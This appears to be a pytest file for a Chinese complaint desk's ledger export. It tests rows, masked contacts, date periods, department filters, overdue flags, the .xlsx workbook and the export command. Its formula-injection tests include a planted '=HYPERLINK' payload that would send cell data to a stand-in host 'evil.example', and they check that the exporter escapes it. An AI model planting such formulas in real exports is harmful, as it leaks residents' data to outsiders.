"""The 台账 export: rows, filters, the overdue flag, the .xlsx file and the command.

Tickets are registered and moved through the real handlers with the test
clock (Monday 2026-11-30 10:00 in Shanghai); the workbook is read back with
openpyxl. The command runs in-process through ``bot.cli.main`` on a SQLite file.
"""

from __future__ import annotations

import asyncio
import threading
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from conftest import FakeClock
from helpers import (
    CONDUCT_TEXT,
    RESIDENT,
    ROUTED_TEXT,
    UNROUTED_TEXT,
    load_ticket,
    perform,
    register,
)
from openpyxl import load_workbook

from bot.cli import main
from bot.config_file import load_desk_config
from bot.startup import open_database
from handlers import ledger
from handlers.context import Desk
from handlers.directory_sync import sync_directory
from handlers.ledger import (
    DATE_FORMAT,
    HEADERS,
    LedgerRow,
    UnknownDepartment,
    excel_text,
    export_ledger,
    ledger_pages,
    ledger_rows,
    write_ledger_xlsx,
)
from handlers.workflow import Action, Rating
from storage.models import DESK_TZ

NOISE_TEXT = "工地夜间施工噪音扰民"  # 环境保护: 生态环境局 leads, 城管局 co-handles


def day(text: str) -> datetime:
    """00:00 of a desk-time date."""
    return datetime.fromisoformat(text).replace(tzinfo=DESK_TZ)


async def rows_of(desk: Desk, since: str, until: str, **kwargs: Any) -> list[LedgerRow]:
    """The ledger of ``[since, until)`` (desk dates) as a list."""
    return [row async for row in ledger_rows(desk, since=day(since), until=day(until), **kwargs)]


async def test_rows_carry_the_ticket_and_only_a_masked_contact(desk: Desk) -> None:
    routed = await register(desk, ROUTED_TEXT)
    noise = await register(desk, NOISE_TEXT, sender="+8615000001111")
    conduct = await register(desk, CONDUCT_TEXT, sender="+8618600002222")
    chat = await register(desk, UNROUTED_TEXT, sender="7012345678", channel="telegram")

    rows = {row.number: row for row in await rows_of(desk, "2026-11-30", "2026-12-01")}

    assert list(rows) == [routed, noise, conduct, chat]  # registration order
    first = rows[routed]
    ticket = await load_ticket(desk, routed)
    assert first.registered_at == datetime(2026, 11, 30, 10, 0, tzinfo=DESK_TZ)
    assert (first.channel, first.category, first.status) == ("短信", "城乡建设", "已转办")
    assert (first.department, first.co_departments) == ("住建局", "")
    assert (first.nature, first.accused) == ("", "")
    assert first.deadline_at == ticket.deadline_at
    assert first.deadline_at is not None and first.deadline_at.tzinfo == DESK_TZ
    assert (first.resolved_at, first.overdue, first.rating) == (None, "否", "")
    assert first.contact == "138****5678"
    assert first.text == ROUTED_TEXT
    assert (rows[noise].department, rows[noise].co_departments) == ("生态环境局", "城管局")
    # A conduct complaint is in the centre's ledger, marked, with whom it accuses.
    assert (rows[conduct].nature, rows[conduct].accused) == ("作风投诉", "城管局")
    assert rows[conduct].department == "效能办"
    assert rows[conduct].contact == "186****2222"
    assert (rows[chat].contact, rows[chat].channel, rows[chat].status) == (
        "Telegram用户",
        "Telegram",
        "已登记",
    )
    assert rows[chat].deadline_at is None
    every_value = "\n".join(str(v) for row in rows.values() for v in row.values())
    for secret in (RESIDENT, RESIDENT.removeprefix("+86"), "15000001111", "7012345678"):
        assert secret not in every_value
    assert len(HEADERS) == len(first.values())


async def test_the_period_is_half_open_in_desk_time(desk: Desk, clock: FakeClock) -> None:
    clock.now = datetime(2026, 11, 1, 0, 0, tzinfo=DESK_TZ).astimezone(UTC)
    first_of_november = await register(desk, ROUTED_TEXT)
    # 07:00 on 1 December in Shanghai is still 30 November in UTC: December's.
    clock.now = datetime(2026, 11, 30, 23, 0, tzinfo=UTC)
    december = await register(desk, ROUTED_TEXT)
    clock.now = datetime(2026, 10, 31, 23, 59, tzinfo=DESK_TZ).astimezone(UTC)
    october = await register(desk, ROUTED_TEXT)

    def numbers(rows: list[LedgerRow]) -> list[str]:
        return [row.number for row in rows]

    assert numbers(await rows_of(desk, "2026-11-01", "2026-12-01")) == [first_of_november]
    assert numbers(await rows_of(desk, "2026-12-01", "2027-01-01")) == [december]
    assert numbers(await rows_of(desk, "2026-10-01", "2026-11-01")) == [october]
    assert numbers(await rows_of(desk, "2026-10-31", "2026-12-02")) == [
        first_of_november,
        december,
        october,
    ]
    assert await rows_of(desk, "2026-11-02", "2026-12-01") == []
    naive = ledger_rows(desk, since=datetime(2026, 11, 1), until=day("2026-12-01"))
    with pytest.raises(ValueError, match="aware"):
        await anext(naive)


async def test_the_department_filter_keeps_what_it_leads(desk: Desk) -> None:
    await register(desk, ROUTED_TEXT)
    noise = await register(desk, NOISE_TEXT)
    conduct = await register(desk, CONDUCT_TEXT)

    huanbao = await rows_of(desk, "2026-11-30", "2026-12-01", department_code="huanbao")
    assert [row.number for row in huanbao] == [noise]
    # Co-handling (城管局 on the noise ticket) and being accused are not leading it.
    assert await rows_of(desk, "2026-11-30", "2026-12-01", department_code="chengguan") == []
    xiaoneng = await rows_of(desk, "2026-11-30", "2026-12-01", department_code="xiaoneng")
    assert [row.number for row in xiaoneng] == [conduct]
    with pytest.raises(UnknownDepartment, match=r"'nope' \(known: zhujian, huanbao"):
        await rows_of(desk, "2026-11-30", "2026-12-01", department_code="nope")


async def test_overdue_means_resolved_late_or_still_open_past_the_deadline(
    desk: Desk, clock: FakeClock
) -> None:
    open_ticket = await register(desk, ROUTED_TEXT)
    on_time = await register(desk, ROUTED_TEXT)
    late = await register(desk, ROUTED_TEXT)
    triage = await register(desk, UNROUTED_TEXT)
    for number in (on_time, late):
        await perform(desk, number, Action.CLAIM)
    await perform(desk, on_time, Action.RESOLVE)
    deadline = (await load_ticket(desk, late)).deadline_at
    assert deadline is not None
    clock.now = deadline + timedelta(hours=1)
    await perform(desk, late, Action.RESOLVE)
    await perform(desk, late, Action.RATE, rating=Rating.SATISFIED)

    async def flags(now: datetime) -> dict[str, str]:
        rows = await rows_of(desk, "2026-11-30", "2026-12-01", now=now)
        return {row.number: row.overdue for row in rows}

    before = await flags(deadline - timedelta(minutes=1))
    after = await flags(deadline + timedelta(minutes=1))
    assert before == {open_ticket: "否", on_time: "否", late: "是", triage: "否"}
    assert after == {open_ticket: "是", on_time: "否", late: "是", triage: "否"}
    # Without ``now`` the desk's clock decides (an hour past the deadline here).
    assert {r.number: r.overdue for r in await rows_of(desk, "2026-11-30", "2026-12-01")} == after
    rows = {r.number: r for r in await rows_of(desk, "2026-11-30", "2026-12-01")}
    assert (rows[late].status, rows[late].rating) == ("已办结", "满意")
    assert rows[late].resolved_at == clock.now.astimezone(DESK_TZ)
    assert rows[on_time].status == "已办结，待评价"


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://x","点我")', '\'=HYPERLINK("http://x","点我")'),
        ("+8613812345678 路灯坏了", "'+8613812345678 路灯坏了"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("路灯坏了=没人管", "路灯坏了=没人管"),
        ("幸福路\x07的路灯", "幸福路的路灯"),  # a control character openpyxl refuses
        ("", ""),
    ],
)
def test_cell_text_is_never_a_formula(text: str, cell: str) -> None:
    assert excel_text(text) == cell


async def test_a_resident_cannot_plant_a_formula_in_the_workbook(
    desk: Desk, tmp_path: Path
) -> None:
    planted = '=HYPERLINK("http://evil.example/?"&A1,"小区电梯坏了物业不管")'
    number = await register(desk, planted)
    rows = await rows_of(desk, "2026-11-30", "2026-12-01")
    assert rows[0].text == planted  # the ledger rows keep the resident's words as they are

    path = tmp_path / "ledger.xlsx"
    assert await asyncio.to_thread(write_ledger_xlsx, rows, path) == 1
    sheet = load_workbook(path).active
    assert sheet is not None
    cell = sheet.cell(row=2, column=HEADERS.index("诉求内容") + 1)
    assert sheet.cell(row=2, column=1).value == number
    assert cell.data_type == "s"
    assert cell.value == "'" + planted


async def test_the_workbook_reads_back_with_header_widths_and_real_datetimes(
    desk: Desk, clock: FakeClock, tmp_path: Path
) -> None:
    routed = await register(desk, ROUTED_TEXT)
    conduct = await register(desk, CONDUCT_TEXT)
    rows = await rows_of(desk, "2026-11-30", "2026-12-01")
    path = tmp_path / "ledger.xlsx"

    written = await export_ledger(desk, path, since=day("2026-11-30"), until=day("2026-12-01"))

    assert written == 2
    sheet = load_workbook(path).active
    assert sheet is not None
    lines = list(sheet.iter_rows())
    assert [c.value for c in lines[0]] == list(HEADERS)
    assert all(c.font.b for c in lines[0])
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width == 12
    assert sheet.column_dimensions["O"].width == 60  # 诉求内容
    assert [line[0].value for line in lines[1:]] == [routed, conduct]
    registered = lines[1][HEADERS.index("登记时间")]
    # Naive, in desk time: 10:00 in Shanghai, not 02:00 UTC.
    assert registered.value == datetime(2026, 11, 30, 10, 0)
    assert registered.is_date and registered.number_format == DATE_FORMAT
    deadline = lines[1][HEADERS.index("限办时间")].value
    assert rows[0].deadline_at is not None
    assert deadline == rows[0].deadline_at.replace(tzinfo=None)
    assert lines[1][HEADERS.index("办结时间")].value is None
    for line, row in zip(lines[1:], rows, strict=True):
        expected = [
            v.replace(tzinfo=None) if isinstance(v, datetime) else v or None for v in row.values()
        ]
        assert [c.value for c in line] == expected
    assert lines[2][HEADERS.index("投诉性质")].value == "作风投诉"


async def test_pages_are_read_by_keyset_and_written_off_the_event_loop(
    desk: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    numbers = [await register(desk, ROUTED_TEXT) for _ in range(5)]
    period = {"since": day("2026-11-30"), "until": day("2026-12-01")}

    sizes = [len(page) async for page in ledger_pages(desk, page_size=2, **period)]
    assert sizes == [2, 2, 1]
    paged = [row.number async for page in ledger_pages(desk, page_size=2, **period) for row in page]
    assert paged == numbers
    exact = [len(page) async for page in ledger_pages(desk, page_size=5, **period)]
    assert exact == [5]

    loop_thread = threading.get_ident()
    writers: list[int] = []
    append = ledger.LedgerWorkbook.append

    def recording_append(self: ledger.LedgerWorkbook, rows: Any) -> int:
        writers.append(threading.get_ident())
        return append(self, rows)

    monkeypatch.setattr(ledger.LedgerWorkbook, "append", recording_append)
    assert await export_ledger(desk, tmp_path / "ledger.xlsx", page_size=2, **period) == 5
    assert len(writers) == 3
    assert loop_thread not in writers


# --------------------------------------------------------------- the command


async def _registered(url: str) -> list[str]:
    """Two complaints in the database at ``url``, with the shipped desk, as serve would."""
    database = await open_database(url)
    try:
        config = load_desk_config(None)
        await sync_directory(database, config)
        desk = Desk.build(database, config)
        return [
            await register(desk, "小区电梯坏了三天，物业不管"),
            await register(desk, "工地夜间施工噪音扰民，影响休息", sender="+8615000001111"),
        ]
    finally:
        await database.dispose()


@pytest.fixture
def served(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Two tickets registered this month in a SQLite file that DATABASE_URL names.

    The command runs from ``tmp_path`` with the shipped desk config.
    """
    url = f"sqlite+aiosqlite:///{tmp_path / 'desk.db'}"
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_URL", url)
    monkeypatch.delenv("DESK_CONFIG", raising=False)
    return asyncio.run(_registered(url))


def test_export_command_writes_this_month_and_filters(
    served: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    numbers = served
    out = tmp_path / "ledger.xlsx"

    assert main(["export", "--out", str(out)]) == 0
    said = capsys.readouterr().out
    assert f"wrote 2 row(s) to {out}" in said and "all departments" in said
    sheet = load_workbook(out).active
    assert sheet is not None
    assert [line[0] for line in sheet.iter_rows(min_row=2, values_only=True)] == numbers
    assert "+8613812345678" not in str(list(sheet.values))

    assert main(["export", "--out", str(out), "--department", "shengtai"]) == 0
    assert "wrote 1 row(s)" in capsys.readouterr().out  # 生态环境局 leads the noise complaint
    sheet = load_workbook(out).active
    assert sheet is not None
    assert [line[0] for line in sheet.iter_rows(min_row=2, values_only=True)] == numbers[1:]

    assert main(["export", "--out", str(out), "--from", "2000-01-01", "--to", "2000-01-31"]) == 0
    assert "wrote 0 row(s)" in capsys.readouterr().out
    sheet = load_workbook(out).active
    assert sheet is not None and sheet.max_row == 1  # the header alone
    # --to alone: that whole month.
    assert main(["export", "--out", str(out), "--to", "2000-02-29"]) == 0
    assert "(registered 2000-02-01 to 2000-02-29, all departments)" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--from", "2026-13-01"], "--from '2026-13-01' is not a date: month must be in 1..12"),
        (["--to", "30.11.2026"], "--to '30.11.2026' is not a date; use YYYY-MM-DD"),
        (["--from", "20261101"], "--from '20261101' is not a date; use YYYY-MM-DD"),
        (
            ["--from", "2026-12-01", "--to", "2026-11-30"],
            "--from 2026-12-01 is after --to 2026-11-30",
        ),
        (["--department", "nope"], "unknown department 'nope' (known: zhujian, shengtai"),
    ],
    ids=["month", "format", "compact", "order", "department"],
)
def test_export_command_refuses_bad_input_with_one_line(
    served: list[str],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    args: list[str],
    message: str,
) -> None:
    out = tmp_path / "ledger.xlsx"
    assert main(["export", "--out", str(out), *args]) == 2
    err = capsys.readouterr().err
    assert f"complaint-desk: {message}" in err
    assert "Traceback" not in err
    assert not out.exists()


def test_export_command_names_a_path_it_cannot_write(
    served: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "no-such-dir" / "ledger.xlsx"
    assert main(["export", "--out", str(out)]) == 2
    assert (
        f"complaint-desk: cannot write {out}: No such file or directory" in capsys.readouterr().err
    )
